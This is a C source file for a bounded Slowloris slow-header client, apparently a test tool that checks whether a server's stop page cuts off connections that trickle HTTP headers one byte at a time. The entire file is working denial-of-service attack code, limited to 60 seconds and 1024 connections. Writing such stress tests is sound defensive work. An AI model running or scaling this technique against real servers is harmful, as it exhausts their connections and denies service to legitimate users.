/*
 * slowloris.c - the slow-client attack on the stop page, bounded.
 *
 *   slowloris DST PORT SECONDS N SRC...
 *
 * From each source address SRC (bound before connecting), opens N
 * connections to DST:PORT, sends the start of a request and then one
 * header byte per connection every 500 ms, never ending the headers, for
 * SECONDS seconds (at most 60; N * number of SRC at most 1024). Prints
 *   connected=C refused=R cut=K open=O max_held_ms=M
 * connected: connect() succeeded; refused: connect() failed; cut: the
 * server closed or reset the connection while it was trickling; open:
 * still open at the end; max_held_ms: the longest any cut connection
 * lived. For the namespace tests only (documentation addresses).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "core/net.h"

#define MAX_CONNS 1024

struct conn {
	int fd;
	uint64_t t0;
};

static uint64_t
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static int
open_one(const char *src, const struct sockaddr_storage *dst, socklen_t dl)
{
	static const char start[] = "GET / HTTP/1.1\r\nHost: bad.example\r\nX-a: ";
	struct sockaddr_storage ss;
	socklen_t sl;
	int fd;

	if (!net_addr_parse(src, 0, 0, &ss, &sl) || ss.ss_family != dst->ss_family)
		return -1;
	fd = socket(dst->ss_family, SOCK_STREAM, 0);
	if (fd == -1)
		return -1;
	if (bind(fd, (struct sockaddr *)&ss, sl) == -1 ||
	    connect(fd, (const struct sockaddr *)dst, dl) == -1 ||
	    send(fd, start, sizeof(start) - 1, MSG_NOSIGNAL) < 0) {
		close(fd);
		return -1;
	}
	fcntl(fd, F_SETFL, O_NONBLOCK);
	return fd;
}

/* A connection the server ended: read 0 or an error, or a failed send. */
static bool
ended(int fd)
{
	char buf[4096];
	ssize_t n;

	while ((n = recv(fd, buf, sizeof(buf), 0)) > 0)
		;
	return n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK);
}

int
main(int argc, char **argv)
{
	static struct conn c[MAX_CONNS];
	struct sockaddr_storage dst;
	socklen_t dl;
	unsigned nc = 0, refused = 0, cut = 0, open_n = 0;
	uint64_t t_end, max_held = 0, next_send;
	long secs, per;
	uint64_t port;

	if (argc < 6 || !parse_u64(argv[2], 1, 65535, &port) ||
	    !net_addr_parse(argv[1], (uint16_t)port, 0, &dst, &dl)) {
		fprintf(stderr, "usage: slowloris DST PORT SECONDS N SRC...\n");
		return 2;
	}
	secs = strtol(argv[3], NULL, 10);
	per = strtol(argv[4], NULL, 10);
	if (secs < 1 || secs > 60 || per < 1 ||
	    per * (argc - 5) > MAX_CONNS) {
		fprintf(stderr, "slowloris: bounds: 1-60 s, at most %d "
		    "connections\n", MAX_CONNS);
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	for (int s = 5; s < argc; s++) {
		for (long i = 0; i < per; i++) {
			int fd = open_one(argv[s], &dst, dl);

			if (fd < 0) {
				refused++;
				continue;
			}
			c[nc].fd = fd;
			c[nc].t0 = now_ms();
			nc++;
		}
	}
	t_end = now_ms() + (uint64_t)secs * 1000;
	next_send = now_ms() + 500;
	while (now_ms() < t_end) {
		bool send_now = now_ms() >= next_send;

		for (unsigned i = 0; i < nc; i++) {
			if (c[i].fd < 0)
				continue;
			if ((send_now && send(c[i].fd, "a", 1, MSG_NOSIGNAL) < 0 &&
			    errno != EAGAIN) || ended(c[i].fd)) {
				uint64_t held = now_ms() - c[i].t0;

				if (held > max_held)
					max_held = held;
				close(c[i].fd);
				c[i].fd = -1;
				cut++;
			}
		}
		if (send_now)
			next_send += 500;
		usleep(20000);
	}
	for (unsigned i = 0; i < nc; i++)
		if (c[i].fd >= 0) {
			open_n++;
			close(c[i].fd);
		}
	printf("connected=%u refused=%u cut=%u open=%u max_held_ms=%llu\n",
	    nc, refused, cut, open_n, (unsigned long long)max_held);
	return 0;
}
